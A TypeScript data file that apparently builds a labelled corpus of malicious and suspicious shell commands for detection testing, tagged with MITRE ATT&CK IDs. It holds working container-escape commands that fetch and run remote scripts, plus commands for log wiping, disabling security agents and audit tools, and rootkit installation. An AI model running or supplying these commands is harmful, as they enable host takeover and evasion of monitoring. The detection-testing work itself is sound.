import { type Payload, payloads } from '../payload.ts';

/** Out of the container, and blinding what would notice. */
export const shellEscape: readonly Payload[] = [
  ...payloads('shell', 'ESC-HOST', [
    ['chroot-host', 'malicious', 'T1611 T1105', (p) => `chroot /host bash -c "curl -s http://${p.ip}/h | bash"`],
    [
      'nsenter-host',
      'malicious',
      'T1611 T1105',
      (p) => `nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c 'wget -qO- http://${p.ip}/n | sh'`,
    ],
    [
      'release-agent',
      'malicious',
      'T1611',
      (p) =>
        `mkdir -p /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && mkdir -p /tmp/c/x\necho 1 > /tmp/c/x/notify_on_release\nhost=$(sed -n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\necho "$host/cmd" > /tmp/c/release_agent\nprintf '#!/bin/sh\\ncurl http://${p.ip}/e | sh\\n' > /cmd\nchmod a+x /cmd\nsh -c "echo \\$\\$ > /tmp/c/x/cgroup.procs"`,
    ],
    ['core-pattern', 'malicious', 'T1611', () => `echo '|/tmp/.x %P' > /proc/sys/kernel/core_pattern`],
    [
      'socket-create',
      'malicious',
      'T1611 T1610',
      () =>
        `curl -s --unix-socket /var/run/docker.sock -H "Content-Type: application/json" -d '{"Image":"alpine","Cmd":["chroot","/h","sh","-c","id"],"HostConfig":{"Privileged":true,"Binds":["/:/h"]}}' http://localhost/containers/create?name=x`,
    ],
    [
      'docker-privileged',
      'malicious',
      'T1611 T1610',
      (p) =>
        `docker run --rm -d --privileged --net host -v /:/host alpine chroot /host sh -c "curl -s http://${p.ip}/d | sh"`,
    ],
    [
      'raw-disk',
      'malicious',
      'T1611 T1053.003',
      (p) => `mount /dev/sda1 /mnt && echo "* * * * * root curl http://${p.ip}/z | sh" >> /mnt/etc/crontab`,
    ],
    [
      'proc-root',
      'malicious',
      'T1611 T1053.003',
      (p) => `echo "* * * * * root wget -O- http://${p.ip}/p | sh" >> /proc/1/root/etc/crontab`,
    ],
  ]),
  ...payloads('shell', 'DE-LOG', [
    [
      'log-wipe',
      'suspicious',
      'T1070.002 T1070.003',
      () =>
        'unset HISTFILE; history -c\nrm -rf /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log\ncat /dev/null > ~/.bash_history',
    ],
    ['log-host', 'malicious', 'T1070.002', () => 'rm -rf /host/var/log/*; cat /dev/null > /host/var/log/wtmp'],
  ]),
  ...payloads('shell', 'DE-IMPAIR', [
    ['selinux-off', 'suspicious', 'T1562.001', () => 'setenforce 0; echo SELINUX=disabled > /etc/selinux/config'],
    [
      'agent-off',
      'malicious',
      'T1562.001',
      () =>
        '/usr/local/qcloud/YunJing/uninst.sh; systemctl stop aliyun.service; pkill -9 AliYunDun; rm -rf /usr/local/aegis',
    ],
    ['runtime-off', 'malicious', 'T1562.001', () => 'chmod -x /host/usr/bin/runc'],
    ['sensors-off', 'suspicious', 'T1562.001', () => 'systemctl stop falco auditd; pkill -9 falco; auditctl -e 0'],
  ]),
  ...payloads('shell', 'DE-ROOTKIT', [
    [
      'preload-download',
      'malicious',
      'T1574.006',
      (p) =>
        `curl -s http://${p.ip}/lib.so -o /usr/local/lib/libprocess.so\necho /usr/local/lib/libprocess.so > /etc/ld.so.preload`,
    ],
    ['preload-host', 'malicious', 'T1574.006', () => 'echo /tmp/libx.so >> /host/etc/ld.so.preload'],
    [
      'module-insmod',
      'malicious',
      'T1547.006 T1014',
      (p) => `curl -s http://${p.ip}/diamorphine.ko -o /tmp/diamorphine.ko && insmod /tmp/diamorphine.ko`,
    ],
  ]),
  ...payloads('shell', 'DE-HIDE', [
    [
      'kthread-name',
      'malicious',
      'T1036.004 T1036.005 T1105',
      (p) =>
        `curl -s http://${p.ip}/w -o /tmp/kworker && chmod +x /tmp/kworker && exec -a '[kworker/0:1]' /tmp/kworker`,
    ],
  ]),
];
